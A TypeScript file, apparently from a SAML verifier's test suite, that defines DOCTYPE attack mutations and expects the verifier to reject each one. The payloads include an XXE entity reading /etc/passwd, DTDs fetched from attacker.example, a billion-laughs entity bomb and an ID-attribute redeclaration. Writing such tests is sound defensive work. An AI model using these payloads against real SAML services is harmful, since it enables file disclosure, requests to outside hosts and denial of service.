import type { Attack } from './attack.ts'
import { promote, replace } from './edit.ts'

/** Puts a document type declaration right before the root. */
const declare = (xml: string, doctype: string) => replace(xml, '<samlp:Response', `${doctype}<samlp:Response`)

/** As `declare`, and lets the NameID be the entity. */
const withEntity = (xml: string, entity: string, doctype: string) =>
  declare(replace(xml, /(?<=NameID[^>]*>)[^<]*/, `&${entity};`), doctype)

const LAUGHS = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`)

const DOCUMENT_TYPES: Omit<Attack, 'class' | 'expectFail'>[] = [
  {
    name: 'harmless',
    base: 'entra/both',
    what: 'A document type declaration without content.',
    mutate: (xml) => declare(xml, '<!DOCTYPE samlp:Response>'),
  },
  {
    name: 'entity-in-name-id',
    base: 'salesforce/both',
    what: 'The NameID is an internal entity.',
    mutate: (xml) => withEntity(xml, 'user', '<!DOCTYPE r [<!ENTITY user "admin@example.com">]>'),
  },
  {
    name: 'file-entity',
    base: 'node-samlp/base-sp-redirect',
    what: 'The NameID is an external entity, a file of the verifier.',
    mutate: (xml) => withEntity(xml, 'file', '<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/passwd">]>'),
  },
  {
    name: 'parameter-entity',
    base: 'simplesamlphp/base-sp-redirect',
    what: 'A parameter entity fetches more declarations from the attacker.',
    mutate: (xml) => declare(xml, '<!DOCTYPE r [<!ENTITY % more SYSTEM "http://attacker.example/x.dtd"> %more;]>'),
  },
  {
    name: 'external-subset',
    base: 'entra/usual',
    what: 'The document type is a file of the attacker.',
    mutate: (xml) => declare(xml, '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">'),
  },
  {
    name: 'billion-laughs',
    base: 'salesforce/usual',
    what: 'Nested entities would grow to a gigabyte.',
    mutate: (xml) => withEntity(xml, 'l9', `<!DOCTYPE r [<!ENTITY l0 "ha">${LAUGHS.join('')}]>`),
  },
  {
    name: 'id-attribute-declared',
    base: 'node-samlp/base-idp-initiated',
    what: 'The declaration makes another attribute the ID, and gives it a default value.',
    mutate: (xml) => declare(promote(xml), '<!DOCTYPE r [<!ATTLIST samlp:Status Name ID "_423b80fa">]>'),
  },
  {
    name: 'behind-comment',
    base: 'simplesamlphp/base-idp-initiated',
    what: 'The declaration stands behind a comment and an instruction that hold quotes and angle brackets.',
    mutate: (xml) => declare(xml, `<!-- <a b='"> --><?p <!-- ?><!DOCTYPE r [<!ENTITY user "x">]>`),
  },
]

/** Document types, harmless or not: SAML has none. */
export const DOCTYPE: Attack[] = DOCUMENT_TYPES.map((attack) => ({
  ...attack,
  class: 'doctype',
  expectFail: ['xml-has-no-doctype'],
}))
